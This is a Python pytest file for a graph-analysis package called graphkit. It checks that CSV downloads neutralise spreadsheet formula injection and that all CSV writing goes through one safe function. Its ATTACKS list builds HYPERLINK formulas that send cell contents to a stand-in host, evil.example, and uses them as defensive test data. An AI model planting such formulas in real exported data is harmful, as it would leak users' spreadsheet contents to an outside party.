"""Every CSV graphkit writes is spreadsheet-safe, through one function (graphkit.io.spreadsheet)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from graphkit.analysis.events import event_plan
from graphkit.analysis.paths import engagement_paths
from graphkit.app.events import meetings_csv
from graphkit.app.paths import paths_csv
from graphkit.examples import small_world_graph
from graphkit.io.spreadsheet import FORMULA_STARTS

PACKAGE = Path(__file__).resolve().parent.parent / "graphkit"
ATTACKS = [start + 'HYPERLINK("http://evil.example/?q="&A1)' for start in FORMULA_STARTS]


def cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def formulas(data: bytes) -> list[str]:
    """The cells a spreadsheet would run as formulas (after any leading tab or carriage return)."""
    return [c for c in cells(data) if c.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_paths_and_meetings_downloads_neutralise_formulas(attack):
    G = small_world_graph()
    G.nodes["person-lucas"]["name"] = attack
    paths = paths_csv(G, engagement_paths(G, ["person-amara"], "person-ines", k=2))
    meetings = meetings_csv(G, event_plan(G, "event-igf-2013", ["person-amara"]))
    for data in (paths, meetings):
        assert "'" + attack in cells(data)  # the name is there, shown as text
        assert formulas(data) == []


def test_no_module_writes_csv_but_through_the_one_function():
    """csv.writer and DictWriter appear only in graphkit/io/spreadsheet.py (twice: the safe writer,
    and the one for files only a program reads)."""
    writers = []
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            named = isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
            if named and isinstance(node.value, ast.Name) and node.value.id == "csv":
                writers.append(path.relative_to(PACKAGE).as_posix())
    assert writers == ["io/spreadsheet.py"] * 2
